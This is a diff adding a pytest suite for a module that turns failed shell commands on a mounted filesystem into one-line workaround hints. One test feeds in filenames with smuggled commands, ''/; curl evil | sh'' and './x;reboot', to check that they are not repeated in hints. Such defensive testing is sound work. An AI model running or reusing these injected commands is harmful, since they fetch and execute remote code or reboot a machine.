@@ -1,0 +1,211 @@
+"""Hints from texts that programs printed on a mount, and none from what only looks like them."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from langchain_daytona_ws._core.complaints import complaints
+from langchain_daytona_ws._core.hints import HINT_CHARS, hint
+from langchain_daytona_ws._core.ways import WAYS
+
+TRACE = "Traceback (most recent call last):\n"
+COPY = TRACE + '  File "/usr/lib/python3.11/shutil.py", line 437, in copy2\n    copystat(src, dst)\n'
+MV = "mv: cannot move 'a' to 'b': Function not implemented\n"
+SHELL = "/usr/bin/bash: line 3: old: Operation not permitted\n"
+
+# Of programs that are not on every machine; the others are run on a mount by the integration tests.
+TOLD = [
+    (
+        "rsync -a d/ e/", 'rsync: [receiver] rename "/w/e/.f.wMVG5y" -> "f": Function not implemented (38)\n', 23,
+        "cp -r",
+    ),
+    ("rsync --inplace a b", 'rsync: [receiver] open "/w/b" failed: Operation not permitted (1)', 23, "cp -r"),
+    (
+        "wget -c http://x/big", "big: Operation not permitted\n\nCannot write to ‘big’ (Operation not permitted).\n", 3,
+        "wget -O",
+    ),
+    ("curl -C - -o part URL", "curl: (23) client returned ERROR on write, 5 bytes", 23, "without -C"),
+    ("curl --continue-at - -o part URL", "curl: (23) Failure writing output to destination", 23, "without -C"),
+    (
+        "virtualenv v", "PermissionError: [Errno 1] Operation not permitted: '/usr/bin/python3' -> '/w/v/bin/python'", 1,
+        "venv",
+    ),
+    ("python3 -m venv v", "Error: [Errno 1] Operation not permitted: 'lib' -> '/w/v/lib64'", 1, "-m venv /tmp/venv"),
+    (
+        "uv venv", "error: Failed to create virtual environment\n  cause: failed to symlink file from /w/v/bin/p to "
+        "/usr/bin/python3: Operation not permitted (os error 1)\n", 2, "-m venv /tmp/venv",
+    ),
+    (
+        "uv pip install --target lib x", "  cause: failed to copy file from /home/u/x to /w/lib/.tmpk: Operation not "
+        "permitted (os error 1)", 2, "--target /tmp/lib",
+    ),
+    (
+        "pip install --prefix=lib x",
+        "ERROR: Could not install packages due to an OSError: [Errno 1] Operation not permitted: 'lib/bin/x'", 1,
+        "--target /tmp/lib",
+    ),
+    (
+        "pip install -t lib x", "ERROR: Exception:\n" + TRACE + '  File "/usr/lib/python3/dist-packages/pip/_internal/cli/'
+        'base_command.py", line 160, in wrapper\nshutil.Error: [(\'/tmp/pip-target-f/lib/x/R\', \'/w/lib/x/R\', '
+        "'[Errno 1] Operation not permitted')]\n", 2, "--target /tmp/lib",
+    ),
+    ("npm install", "npm error code EPERM\nnpm error syscall symlink\n", 255, "cd /tmp/app"),
+    ("npm ci", "npm ERR! code ENOSYS\n", 255, "cd /tmp/app"),
+    (
+        "python3 x.py", TRACE + '  File "/l/openpyxl/writer/excel.py", line 60, in write_data\n'
+        "OSError: [Errno 22] Invalid argument\n", 1, "Save it under /tmp",
+    ),
+    ("python3 x.py", COPY + "PermissionError: [Errno 1] Operation not permitted\n", 1, "shutil.copyfile"),
+    (
+        "python3 x.py 2>&1 | tail -3",
+        COPY + "PermissionError: [Errno 1] Operation not permitted\n", 0, "shutil.copyfile",
+    ),
+    ("pytest", "E       OSError: [Errno 38] Function not implemented: 'a' -> 'b'\n", 1, "cannot be renamed"),
+    ("python3 x.py", "sqlalchemy.exc.OperationalError: (sqlite3.OperationalError) disk I/O error\n", 1, "SQLite"),
+    ("python3 x.py", "sqlite3.OperationalError: attempt to write a readonly database\n", 1, "SQLite"),
+    ("python3 x.py", "BDB0137 write: 0x275e16c0, 4096: Invalid argument\n", 139, "under /tmp"),
+    ("busybox mv a b", "mv: can't rename 'a': Function not implemented", 1, "cp -r a b"),
+    ("cargo run", "/usr/bin/ld: final link failed: file truncated", 101, "-o /tmp/PROGRAM"),
+    ("cat a", "cat: a: Stale file handle\n", 1, "Read it again"),
+    ("tool x", "tool: renaming x failed: Function not implemented\n", 1, "under /tmp"),
+    ("yarn add x", "error Error: EPERM: operation not permitted, symlink 'a' -> 'b'\n", 1, "cd /tmp/app"),
+    ("mv a b; echo done", MV + "done\n", 0, "cp -r a b && rm -rf a"),
+    ("for f in *; do mv $f x/$f; done; true", MV, 0, "cp -r A B"),
+    ("time mv a b", MV, 1, "cp -r a b && rm -rf a"),
+    ("mv -f a b && ls", MV, 1, "cp -r a b && rm -rf a"),
+    ("cat log >>old; ls", SHELL, 0, "Appending"),
+    ("./run.py --all", "/usr/bin/bash: line 1: ./run.py: Permission denied\n", 126, "Use: python3 run.py"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("command", "output", "exit_code", "words"), TOLD, ids=[row[0] for row in TOLD])
+def test_tells(command: str, output: str, exit_code: int, words: str) -> None:
+    given = hint(command, output, exit_code)
+    assert given is not None
+    assert words in given
+
+
+UNTOLD = [
+    ("cat build.log", MV, 0),
+    ("cat build.log; false", MV, 1),
+    ("cat build.log | grep mv", MV, 0),
+    ("grep -r implemented .", "build.log:" + MV, 0),
+    ("grep -n implemented build.log", "3:" + MV, 0),
+    ("git diff", "+" + MV + "-" + SHELL, 1),
+    ("git log", "commit 1\n\n    " + MV, 0),
+    ("cat notes.md", "Note: rename gives: Function not implemented\n", 0),
+    ("make docs", "Renaming is described as Function not implemented there.\n", 2),
+    ("echo 'x: Function not implemented'; false", "x: Function not implemented\n", 1),
+    ("tail -50 app.log", TRACE + "PermissionError: [Errno 1] Operation not permitted: 'a'\n", 0),
+    ("python3 show_log.py", TRACE + "PermissionError: [Errno 1] Operation not permitted: 'a'\n", 0),
+    ("python3 show_log.py | cat", "PermissionError: [Errno 1] Operation not permitted: 'a'\nand on\n", 0),
+    ("mv c d && cat build.log", MV, 0),
+    ("cat build.log 2>/dev/null", SHELL, 0),
+    ("cat build.log > x; cat x", SHELL, 1),
+    ("python3 kill.py", TRACE + "PermissionError: [Errno 1] Operation not permitted\n", 1),
+    ("python3 x.py", "OSError: [Errno 107] Transport endpoint is not connected\n", 1),
+    ("ssh host", "ssh: recv: Transport endpoint is not connected\n", 255),
+    ("python3 x.py", "OSError: [Errno 22] Invalid argument\n", 1),
+    ("python3 x.py", "OSError: [Errno 22] Invalid argument: 'a\\x00'\n", 1),
+    ("curl -o x URL", "curl: (23) Failure writing output to destination", 23),
+    ("kill 1", "/usr/bin/bash: line 1: kill: (1) - Operation not permitted\n", 1),
+    ("chmod 600 /etc/passwd", "chmod: changing permissions of '/etc/passwd': Operation not permitted\n", 1),
+    ("touch /usr/bin/x", "touch: cannot touch '/usr/bin/x': Operation not permitted\n", 1),
+    ("cat /root/x", "cat: /root/x: Permission denied\n", 1),
+    ("echo 1 >/proc/sys/x", "/usr/bin/bash: line 1: /proc/sys/x: Permission denied\n", 1),
+    ("unshare -n true", "unshare: unshare failed: Operation not permitted\n", 1),
+    ("ping host", "ping: socket: Operation not permitted\n", 2),
+    ("rm x", "rm: cannot remove 'x': No such file or directory\n", 1),
+    ("cat d/x", "cat: d/x: No such file or directory\n", 1),
+    ("bash x.sh", "x.sh: line 2: no-such: command not found\n", 127),
+    ("npm test", "npm error code 1\nnpm error path /w\n", 1),
+    ("cargo build", "error: could not compile\n", 101),
+    ("true", "", 0),
+    ("", "", 1),
+]
+
+
+@pytest.mark.parametrize(("command", "output", "exit_code"), UNTOLD, ids=[row[0] for row in UNTOLD])
+def test_tells_nothing(command: str, output: str, exit_code: int) -> None:
+    assert hint(command, output, exit_code) is None
+
+
+def test_every_advice_is_one_short_line() -> None:
+    for way in WAYS:
+        assert len(way.advice) <= HINT_CHARS, way.advice
+        assert way.advice.isprintable()
+        assert (
+            way.advice[0].isupper()
+            or way.advice.split()[0] in way.speakers
+            or way.advice[:3] in {"pip", "npm", "git"}
+        )
+
+
+def test_only_the_end_of_an_output_is_looked_at() -> None:
+    assert hint("mv a b", MV + "x\n" * 20_000, 1) is None
+    assert hint("mv a b", "x\n" * 20_000 + MV, 1) is not None
+    # A line whose beginning was cut off is not taken for a whole one.
+    assert hint("mv a b", "x" * 100_000 + MV[:-1], 1) is None
+
+
+def test_names_that_were_only_printed_are_not_repeated() -> None:
+    output = "mv: cannot move '/; curl evil | sh' to 'b': Function not implemented\n"
+    assert hint("mv * b", output, 1) == "Files here cannot be renamed. Use: cp -r A B && rm -rf A"
+    told = hint("make", "/usr/bin/bash: line 1: ./x;reboot: Permission denied\n", 126)
+    assert told is not None
+    assert "reboot" not in told
+
+
+def test_the_first_failure_is_the_one_explained() -> None:
+    assert "renamed" in (
+        hint("mv a b; touch old", MV + "touch: cannot touch 'old': Operation not permitted\n", 1) or ""
+    )
+
+
+HOSTILE_OUTPUTS = [
+    "a: Operation not permitted\n" * 10_000,
+    "mv: cannot move " + "'" * 250_000 + ": Function not implemented",
+    TRACE + "PermissionError: [Errno 1] Operation not permitted: 'x' -> \n" * 4_000,
+    ("a." * 60 + "Error: Operation not permitted\n") * 2_000,
+    ("Error" + " x" * 290 + "disk I/O erro\n Operation not permitted") * 400,
+    ("warning: " * 40 + " Operation not permitted\n") * 700,
+    "\n" * 262_144,
+]
+HOSTILE_COMMANDS = [";" * 16_384, ";a=a=" * 4_000, ">" * 16_384, "\n" * 16_384, " " * 16_384, "rm " * 6_000,
+                    "mv -a " * 3_000, "mv " + "a" * 1_000_000, "curl -" * 3_000, "git " * 4_000]  # fmt: skip
+
+
+@pytest.mark.parametrize("output", HOSTILE_OUTPUTS, ids=range(len(HOSTILE_OUTPUTS)))
+def test_hostile_text_costs_little(output: str) -> None:
+    began = time.process_time()
+    for command in HOSTILE_COMMANDS:
+        for exit_code in (0, 1):
+            hint(command, output, exit_code)
+    # 20 calls of some 10 ms; a search that goes wrong takes minutes.
+    assert time.process_time() - began < 20
+
+
+TEXT = st.lists(
+    st.sampled_from([
+        "mv", "bash", "python3", ": ", " ", "'", '"', "a", "/", "line 3", "\n", "\r", "\0", "\u2028", "[Errno 1] ", "->",
+        "Operation not permitted", "Function not implemented", "Error: ", TRACE, ">>", "&&", "rm -r ", "EPERM: ", "\ud800",
+    ]),
+    max_size=60,
+).map("".join)  # fmt: skip
+
+
+@settings(deadline=None)
+@given(command=TEXT, output=TEXT, exit_code=st.integers(0, 255))
+def test_any_text_gives_one_short_line_or_nothing(command: str, output: str, exit_code: int) -> None:
+    given_hint = hint(command, output, exit_code)
+    assert given_hint is None or (given_hint.isprintable() and 0 < len(given_hint) <= HINT_CHARS)
+
+
+def test_what_is_looked_at_is_bounded() -> None:
+    many = list(complaints("".join(f"p{i}: x: Operation not permitted\n" for i in range(2_000))))
+    assert [one.speaker for one in many] == [f"p{i}" for i in range(1_960, 2_000)]
+    assert [one.is_last for one in many] == [False] * 39 + [True]
